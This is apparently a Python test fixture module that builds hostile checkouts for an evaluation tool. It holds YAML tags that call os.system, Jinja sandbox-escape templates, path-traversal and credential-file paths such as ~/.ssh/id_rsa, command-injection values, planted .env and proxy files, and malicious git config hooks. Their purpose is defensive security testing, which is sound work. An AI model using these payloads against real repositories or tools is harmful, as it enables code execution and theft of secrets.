"""What a stranger may put into a checkout: specs, templates, paths, links, pipes and files that other tools obey."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.torture.hostile_setting import MARK, SPEC, change_spec

Attack = tuple[str, Callable[[Path, Path], None]]  # a name, and what it does to (checkout, folder outside)

_TAGS = (
    '!!python/object/apply:os.system ["touch PWNED"]',
    '!!python/object/new:subprocess.Popen [["touch", "PWNED"]]',
    "!!python/name:os.system",
    "!!python/module:os",
    "!include {outside}/secret.txt",
    "!include_raw http://127.0.0.1:9/x",
    "!env HOME",
    "!secret key",
    "!!binary R0lGODlh",
    "!!set {a: null}",
    '!!int ""',
    "!<tag:yaml.org,2002:python/object/apply:os.getcwd> []",
)
_YAML = (
    "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n",
    "a: &a {b: *a}\n",
    "x: " + "[" * 20_000 + "\n",
    "x: " + "{a: " * 5_000 + "\n",
    "<<: {version: 2}\n",
    "---\nversion: 1\n",
    "%TAG ! tag:evil,2026:\n",
    "x: " + "9" * 6_000 + "\n",
    "x: 2024-13-45\n",
    "? [a, b]\n: c\n",
)
# The published ways out of a Jinja sandbox, in our words: str.format behind `attr`, a stored format method, names by
# indexing, blocks, globals; and what multiplies.
TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cell['__class__']['__mro__'] }}",
    "{{ '{0.__class__}'|attr('format')(cell) }}",
    "{{ ('{0.__globals__}'|attr('format'))(cell.items) }}",
    "{{ ['{0.__class__}']|map('format', cell)|list }}",
    "{{ cell|attr('__class__') }}",
    "{{ cell.id.format }}",
    "{{ cell.id['upper'] }}",
    "{{ self.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('touch PWNED') }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ namespace() }}{{ joiner() }}",
    "{% include '../../../etc/passwd' %}",
    "{% import 'small.yaml' as x %}{{ x }}",
    "{% extends 'prompt.md' %}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% set x = 'a' * 100000000 %}{{ x }}",
    "{{ 'a' * 200000000 }}",
    "{{ '%300000000d'|format(1) }}",
    "{{ 'x'|center(200000000) }}",
    "{{ 'x'|replace('x', 'y' * 99999999) }}",
    "{% for i in range(100000000) %}{% endfor %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'x'|tojson" + "|tojson" * 60 + " }}",
    "{{ 'abcdefgh'|join('" + "b" * 20_000 + "')|join('" + "c" * 20_000 + "') }}",
    "{% for a in '" + "x" * 9_000 + "' %}{% for b in '" + "x" * 9_000 + "' %}{% endfor %}{% endfor %}",
    "{{ " + "(" * 15_000 + "1" + ")" * 15_000 + " }}",
    "{% if cell %}" * 400 + "{% endif %}" * 400,
    "{{ " + "9" * 5_000 + " }}",
    "{{ cell" + ".a" * 9_000 + " }}",
)
_OPERATIONAL = (
    *(
        "api_base",
        "base_url",
        "extra_headers",
        "callbacks",
        "proxies",
        "api_key",
        "organization",
        "custom_llm_provider",
    ),
    *("success_callback", "aws_secret_access_key", "vertex_credentials", "plugins", "module", "hooks", "command"),
)
_VALUES: tuple[tuple[str, object], ...] = (
    ("models/writer/model", "file:///etc/passwd"),
    ("models/writer/model", "http://127.0.0.1:9/model"),
    ("models/writer/model", "../../evil/model"),
    ("models/writer/model", "$(touch PWNED)"),
    ("description", "{{ 7*7 }} ${jndi:ldap://127.0.0.1:9/x} %s {0.__class__} `touch PWNED` $(touch PWNED)"),
    ("task/instructions", "{% include '/etc/passwd' %} {{ config }} %(HOME)s ${HOME}"),
    ("sources/production/verified_by", "{0.__class__.__mro__}"),
    ("mix/cases", {"seed": 10**9, "mutation": 10**9}),
    ("mix/cases", {"seed": 6, "mutation": 4, "prompted": 10**12}),
    ("axes/item", {f"l{at}": {} for at in range(900)}),
    ("pools/mutation/operators", {"os.system": {}}),
    ("pools/mutation/operators", {"evalspec.cli:main": {}}),
    ("pools/mutation/operators", {"../evil": {}}),
    ("task/expected", {"answer": {"type": "json", "schema": "http://127.0.0.1:9/schema.json"}}),
    ("task/expected", {"answer": {"type": "json", "schema": "small/remote.json"}}),
    ("task/facts", {"code": {"pattern": "^(a+)+$"}}),
    ("task/facts", {"code": {"pattern": "(?P<x>a)(?(x)b|c){99999999}"}}),
)
_EXTENDS = (
    "../outside/small.yaml",
    "{outside}/secret.txt",
    "http://127.0.0.1:9/base.yaml",
    "ext::sh -c touch% PWNED",
    "--upload-pack=touch PWNED",
    "git@127.0.0.1:x.git",
)
# Every key of a spec that names a file.
PATH_KEYS = (
    "sources/production/path",
    "models/writer/grammar",
    "pools/prompted/prompt/path",
    "task/instructions/path",
    "review/guidelines",
    "screen/signature_words",
    "extends",
)
PATHS = (
    "../outside/secret.txt",
    "small/../../../outside/secret.txt",
    "./small/../../raw.jsonl",
    "..",
    "/etc/passwd",
    "{outside}/secret.txt",
    "//etc/passwd",
    "~/.ssh/id_rsa",
    "~root/x",
    "$HOME/x",
    "file:///etc/passwd",
    "http://127.0.0.1:9/x",
    "ext::sh -c touch% PWNED",
    "--upload-pack=touch PWNED",
    "..\\outside\\secret.txt",
    "C:\\Windows\\win.ini",
    "C:secret.txt",
    "\\\\server\\share\\x",
    "CON",
    "small/aux.jsonl",
    "/dev/zero",
    "/proc/self/environ",
    "small",
    "small/",
    ".git/config",
    "small/\u202etxt.lnosj",
    "small/x\x1b[2J.jsonl",
    "a" * 5_000,
    "small/" + "a" * 300,
    "small/*/**/x",
)
# Files and folders of a checkout that a link or a pipe may stand in for, by what reads or writes them.
INPUTS = (
    SPEC,
    "specs/small/production.jsonl",
    "specs/small/grammar.yaml",
    "specs/small/prompt.md",
    "specs/small/instructions.md",
    "specs/small/guidelines.md",
    "specs/small/words.txt",
    "specs/small/ledger/ann.jsonl",
)
OUTPUTS = (
    "specs/small.lock.json",
    "specs/small.report.md",
    "specs/small.partial.lock.json",
    "specs/small/results/gpt-a.jsonl",
    "specs/small/results/history.jsonl",
    ".evalspec/small/busy",
    "out/jsonl/evalspec.json",
)
FOLDERS = ("specs", "specs/small", "specs/small/ledger", "specs/small/results", ".evalspec", ".evalspec/small", "out")
# What other tools obey when it lies in the working folder.
ENVIRONMENT_FILES: tuple[tuple[str, str], ...] = (
    (".env", "OPENAI_BASE_URL=http://127.0.0.1:9/\nOPENAI_API_KEY=planted-by-the-checkout-1\nEVALSPEC_TRACEBACK=1\n"),
    ("specs/.env", "HTTPS_PROXY=http://127.0.0.1:9/\n"),
    ("litellm_config.yaml", "litellm_settings: {success_callback: [evil.run]}\n"),
    ("evalspec.toml", '[plugins]\nevil = "evil:run"\n[models]\napi_base = "http://127.0.0.1:9/"\n'),
    ("pyproject.toml", '[tool.evalspec]\nplugins = ["evil"]\n[project.entry-points.evalspec]\nevil = "evil:run"\n'),
    ("evil.py", "open('PWNED', 'w').close()\n"),
    ("conftest.py", "open('PWNED', 'w').close()\n"),
    ("sitecustomize.py", "open('PWNED', 'w').close()\n"),
    ("yaml.py", "open('PWNED', 'w').close()\n"),
    ("click.py", "open('PWNED', 'w').close()\n"),
    ("specs/small.py", "open('PWNED', 'w').close()\n"),
    (".netrc", "machine 127.0.0.1 login a password b\n"),
    (".gitattributes", "* filter=evil diff=evil\n"),
    (".git/hooks/post-checkout", "#!/bin/sh\ntouch PWNED\n"),
    ("families.yaml", "anthropic: [gpt-*]\n"),
    ("schemas/spec.v1.json", "{}\n"),
)


def attack_specs() -> Iterator[Attack]:
    """Specs and templates that try to run, read, fetch or grow."""
    for at, tag in enumerate(_TAGS):
        yield (
            f"tag {at}",
            _with_text(
                lambda spec, outside, tag=tag: spec + f"description: {tag}\n".replace("{outside}", str(outside))
            ),
        )
    for at, text in enumerate(_YAML):
        yield f"yaml {at}", _with_text(lambda spec, outside, text=text: text + spec if text[0] == "%" else spec + text)
    for at, template in enumerate(TEMPLATES):
        yield f"template {at}", _with_file("specs/small/prompt.md", template)
    for name in _OPERATIONAL:
        yield f"operational {name}", _with_value(f"models/writer/{name}", "http://127.0.0.1:9/")
    for at, (key, value) in enumerate(_VALUES):
        yield f"value {at} {key}", _with_value(key, value)
    for at, base in enumerate(_EXTENDS):
        yield f"extends {at}", _with_value("extends", base)


def attack_paths() -> Iterator[Attack]:
    """Every key that names a file, with every path that leaves or confuses."""
    for key in PATH_KEYS:
        for at, path in enumerate(PATHS):
            yield f"{key} {at} {path[:30]!r}", _with_value(key, path)


def attack_links() -> Iterator[Attack]:
    """Every file and folder that is opened, as a link out, a dangling link, a device or a pipe."""
    for name in (*INPUTS, *OUTPUTS):
        yield f"{name} -> a file outside", _linked(name, "{outside}/secret.txt")
        yield f"{name} -> nothing outside", _linked(name, "{outside}/new.txt")
        yield f"{name} -> /dev/zero", _linked(name, "/dev/zero")
        yield f"{name} is a pipe", _piped(name)
        yield f"{name} -> itself", _linked(name, os.path.basename(name))
    for name in FOLDERS:
        yield f"{name}/ -> a folder outside", _linked(name, "{outside}", keep=True)


def attack_environment() -> Iterator[Attack]:
    """Files that other tools obey, one at a time, and all of them together."""
    for name, text in ENVIRONMENT_FILES:
        yield name, _with_file(name, text)

    def configured(folder: Path, outside: Path) -> None:
        text = f"[core]\n\tfsmonitor = touch {outside}/PWNED\n\thooksPath = {folder}\n\tpager = touch {outside}/PWNED\n"
        text += f'[diff "evil"]\n\tcommand = touch {outside}/PWNED\n\ttextconv = touch {outside}/PWNED\n'
        with (folder / ".git/config").open("a", encoding="utf-8") as file:
            file.write(text)

    yield ".git/config", configured
    yield (
        "all of them",
        lambda folder, outside: [make(folder, outside) for make in map(_file_of, ENVIRONMENT_FILES)] and None,
    )


def committed_bare_repository(folder: Path, outside: Path) -> str:
    """Lay specs/ out so that git takes it for a bare repository whose missing objects are fetched by a program.

    Returns the commit to ask for. Nothing in it is a file that git refuses to commit.
    """
    specs, missing = folder / "specs", "1" * 40
    subprocess.run(["git", "init", "-q", "--bare", str(specs)], check=True)
    (specs / "refs" / "heads" / "main").write_text(f"{missing}\n", "utf-8")
    (specs / "config").write_text(
        "[core]\n\trepositoryformatversion = 1\n\tbare = true\n[extensions]\n\tpartialClone = origin\n"
        f'[remote "origin"]\n\tpromisor = true\n\turl = {folder}\n\tuploadpack = touch {outside}/PWNED;true\n'
        '[protocol "file"]\n\tallow = always\n[protocol "ext"]\n\tallow = always\n',
        "utf-8",
    )
    return missing


def _with_text(change: Callable[[str, Path], str]) -> Callable[[Path, Path], None]:
    def make(folder: Path, outside: Path) -> None:
        spec = folder / SPEC
        spec.write_text(change(spec.read_text("utf-8"), outside), "utf-8")

    return make


def _with_value(key: str, value: object) -> Callable[[Path, Path], None]:
    def make(folder: Path, outside: Path) -> None:
        found = value.replace("{outside}", str(outside)) if isinstance(value, str) else value
        change_spec(folder, {key: found})

    return make


def _with_file(name: str, text: str) -> Callable[[Path, Path], None]:
    def make(folder: Path, outside: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
        if text.startswith("#!"):
            path.chmod(0o755)

    return make


def _file_of(given: tuple[str, str]) -> Callable[[Path, Path], None]:
    return _with_file(*given)


def _cleared(path: Path, *, keep: Path | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_dir() and not path.is_symlink():
        if keep is not None:
            path.rename(keep)
            return
        raise IsADirectoryError(path)
    path.unlink(missing_ok=True)


def _linked(name: str, target: str, *, keep: bool = False) -> Callable[[Path, Path], None]:
    """Put a link in the place of a file, or of a folder whose content then stands where the link leads."""

    def make(folder: Path, outside: Path) -> None:
        path = folder / name
        if keep:
            moved = outside / "moved"
            if path.exists():
                path.rename(moved)
            else:
                moved.mkdir()
                path.parent.mkdir(parents=True, exist_ok=True)
            path.symlink_to(moved)
        else:
            _cleared(path)
            path.symlink_to(target.replace("{outside}", str(outside)))

    return make


def _piped(name: str) -> Callable[[Path, Path], None]:
    def make(folder: Path, outside: Path) -> None:
        _cleared(folder / name)
        os.mkfifo(folder / name)

    return make


def write_outside(outside: Path) -> None:
    """The files that no attack may read, change or add to."""
    outside.mkdir()
    for name in ("secret.txt", "small.yaml", "secret.jsonl"):
        (outside / name).write_text(f"{MARK}: {name}\n", "utf-8")
